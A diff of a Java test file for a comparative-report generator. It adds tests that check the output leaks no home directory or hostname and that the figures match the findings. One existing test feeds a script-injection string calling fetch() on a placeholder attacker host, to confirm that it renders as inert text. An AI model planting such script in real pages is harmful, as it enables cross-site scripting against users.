@@ -5,12 +5,15 @@ import static org.assertj.core.api.Assertions.assertThat;
 import com.fasterxml.jackson.databind.JsonNode;
 import dev.pairwright.analysis.Findings;
 import dev.pairwright.analysis.MetricFinding;
+import dev.pairwright.analysis.Summary;
 import dev.pairwright.io.StrictJson;
 import dev.pairwright.io.path.TreeRemoval;
 import java.io.IOException;
+import java.net.InetAddress;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.List;
+import java.util.Locale;
 import java.util.Map;
 import java.util.Optional;
 import java.util.regex.Pattern;
@@ -180,7 +183,7 @@ class ComparativeReportTest {
     }
 
     @Test
-    void hostile_text_is_shown_and_does_nothing() {
+    void G04_hostile_text_is_shown_and_does_nothing() {
         String shown = "<script>canary=1;fetch('http://evil.example/x')</script>";
         assertThat(page.title()).contains(shown);
         assertThat(page.selectFirst("#t-by-task").text()).contains("Task " + shown);
@@ -200,6 +203,35 @@ class ComparativeReportTest {
             assertThat(LINK.matcher(stage.text(file)).results().map(link -> link.group(1)))
                     .allMatch(link -> link.startsWith("../") || link.startsWith("figures/"));
         }
+    }
+
+    @Test
+    void G07_neither_user_nor_host_nor_folders_of_the_machine_are_told() throws IOException {
+        List<String> told = List.of(
+                home.toString(), System.getProperty("user.home"), InetAddress.getLocalHost().getHostName());
+        assertThat(stage.bytes().values())
+                .allSatisfy(file -> assertThat(told).noneMatch(each -> each.length() > 4 && file.contains(each)));
+    }
+
+    @Test
+    void figures_show_the_numbers_of_the_findings() {
+        Findings findings = stage.findings();
+        MetricFinding success = findings.metric("task_success");
+        assertThat(page.selectFirst("#f-success-by-variant svg").text())
+                .contains(solved(success.first()), solved(success.second()));
+        assertThat(page.selectFirst("#f-forest svg").text())
+                .contains(String.format(
+                        Locale.ROOT,
+                        "%+.1f [",
+                        100 * findings.hypotheses().get(0).effect().estimate().known().orElseThrow()));
+        assertThat(page.select("#f-pairs-by-task svg title").text())
+                .contains("TASK-002: both 2, only second 2, only first 0, neither 0");
+    }
+
+    private static String solved(Summary summary) {
+        double rate = summary.mean().known().orElseThrow();
+        return String.format(
+                Locale.ROOT, "%d of %d, %.1f %%", Math.round(rate * summary.n()), summary.n(), 100 * rate);
     }
 
     @Test
